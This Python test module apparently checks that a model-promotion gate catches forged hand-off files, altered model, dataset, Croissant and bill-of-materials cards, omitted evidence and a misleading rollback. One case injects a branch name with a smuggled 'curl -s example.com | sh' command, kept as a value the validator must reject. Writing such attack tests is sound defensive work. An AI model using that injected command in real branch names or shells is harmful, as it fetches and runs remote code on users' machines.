"""Rule 6.9: the hand-off and the cards say what the evidence says, whatever CI signed and people approved."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from functools import partial
from typing import Any

from runner.promotion.rollback import rollback_to
from runner.records.evidence import GENERATED, EvidenceFile
from runner.rules.handoff.document import VERSION
from tests.attack.case import Case, Finding, passes
from tests.attack.desk import Desk
from tests.attack.forgery import HOME, altered, altered_json, blind, forge
from tests.promotion_fixture import HANDOFF

RULE = "6.9 hand-off"


def said(desk: Desk, name: str, old: bytes, new: bytes) -> Finding:
    """CI signs a file with some of its words exchanged."""

    def edit(data: bytes) -> bytes:
        assert old in data
        return data.replace(old, new, 1)

    return forge(desk, altered(desk, name, edit))


def stated(desk: Desk, name: str, edit: Callable[[Any], object]) -> Finding:
    return forge(desk, altered_json(desk, name, edit))


def without(desk: Desk, *names: EvidenceFile) -> Finding:
    """CI leaves some of the files out."""
    staging = desk.records["staging"]
    kept = {name: data for name, data in staging.evidence.items() if name not in names}
    return forge(desk, desk.staged(replace(staging, evidence=kept)))


def elsewhere(desk: Desk, branch: bytes) -> Finding:
    """CI records another branch as the run's, and makes the hand-off of it, which tells people to switch there."""
    real = b"runs/desk/it-1"
    files = altered(desk, "handoff.md", lambda data: data.replace(real, branch))
    record = files[f"{HOME}record.yaml"]
    assert real in record
    return forge(desk, {**files, f"{HOME}record.yaml": record.replace(real, branch)})


def terms_moved(desk: Desk) -> Finding:
    """Main's handoff.md names another licence by the time the promotion is merged."""
    path = "clusters/desk/handoff.md"
    moved = HANDOFF.replace(b"Apache-2.0", b"CC-BY-NC-4.0")
    desk.land(desk.git.commit_files([desk.main], {path: moved}, "Other terms\n"))
    return forge(desk, desk.records["files"])


def unreadable(desk: Desk) -> Finding:
    """Main's handoff.md cannot be read: nothing can be made of it again."""
    path = "clusters/desk/handoff.md"
    desk.land(desk.git.commit_files([desk.main], {path: b"---\nlicense: [\n---\n"}, "Broken\n"))
    return forge(desk, desk.records["files"])


def prose_moved(desk: Desk) -> Finding:
    """People write on below the front matter while the promotion waits."""
    path = "clusters/desk/handoff.md"
    desk.land(desk.git.commit_files([desk.main], {path: HANDOFF + b"\nMore.\n"}, "More\n"))
    return forge(desk, desk.records["files"])


def on_a_rollback(desk: Desk) -> Finding:
    """A rollback, which assesses nothing, carries a hand-off that praises what it brings back."""
    staging = rollback_to(desk.sources(), desk.main, "desk", 1, why="refunds are misrouted")
    card = desk.records["staging"].evidence[EvidenceFile.HANDOFF]
    files = desk.staged(replace(staging, evidence={**staging.evidence, EvidenceFile.HANDOFF.value: card}))
    desk.propose(files, sequence=3)
    branch = "refs/heads/promote/desk/3"
    blind(desk, "carol", branch=branch)
    return desk.gate(desk.merge(branch=branch))


MARKED = f"hallmark-handoff {VERSION} ".encode()
CASES = (
    Case(
        "handoff-altered",
        "The hand-off leaves a known limitation out, and CI signs it.",
        RULE,
        partial(said, name="handoff.md", old=b"Twelve scenarios.", new=b"None."),
    ),
    Case(
        "handoff-of-other-rules",
        "The hand-off claims to be made by rules of another version.",
        RULE,
        partial(said, name="handoff.md", old=MARKED, new=b"hallmark-handoff 9 "),
    ),
    Case(
        "handoff-of-no-rules",
        "The hand-off does not say by which rules it was made.",
        RULE,
        partial(said, name="handoff.md", old=b"<!-- hallmark-handoff", new=b"<!-- handoff"),
    ),
    Case(
        "handoff-left-out",
        "The cards come without their hand-off.",
        RULE,
        lambda desk: without(desk, EvidenceFile.HANDOFF),
    ),
    Case(
        "model-card-altered",
        "The model card states a composite that the scorecard has not.",
        RULE,
        partial(said, name="model-card.md", old=b"value: 1.0", new=b"value: 0.999"),
    ),
    Case(
        "dataset-card-altered",
        "The dataset card calls every row human.",
        RULE,
        partial(said, name="dataset-card.md", old=b"synthetic, new", new=b"human, new too"),
    ),
    Case(
        "croissant-altered",
        "Croissant names other terms than people stated.",
        RULE,
        partial(stated, name="croissant.json", edit=lambda it: it.update(license="https://example.com/free")),
    ),
    Case(
        "bom-altered",
        "The bill of materials names another base.",
        RULE,
        partial(stated, name="bom.cdx.json", edit=lambda it: it["components"][0].update(name="another")),
    ),
    Case(
        "handoff-with-a-command",
        "The record's branch, which people are told to switch to, carries a command of its own.",
        "6.1 files",
        partial(elsewhere, branch=b"runs/desk/it-1; curl -s example.com | sh"),
        says="run.branch is not runs/desk/it-1",
    ),
    Case(
        "handoff-of-another-run",
        "The hand-off leads to the branch of another iteration.",
        "6.1 files",
        partial(elsewhere, branch=b"runs/desk/it-2"),
        says="run.branch is not runs/desk/it-1",
    ),
    Case("terms-moved", "The licence on main is another than on the cards.", RULE, terms_moved),
    Case("terms-unreadable", "What people state cannot be read at the base.", RULE, unreadable),
    Case(
        "handoff-on-a-rollback", "A rollback carries a hand-off that nothing of it makes.", RULE, on_a_rollback, "twice"
    ),
    passes("handoff-prose-moved", "People write on in handoff.md while a promotion waits.", prose_moved),
    passes("cards-of-none", "Evidence as before there were hand-offs.", lambda desk: without(desk, *GENERATED)),
)
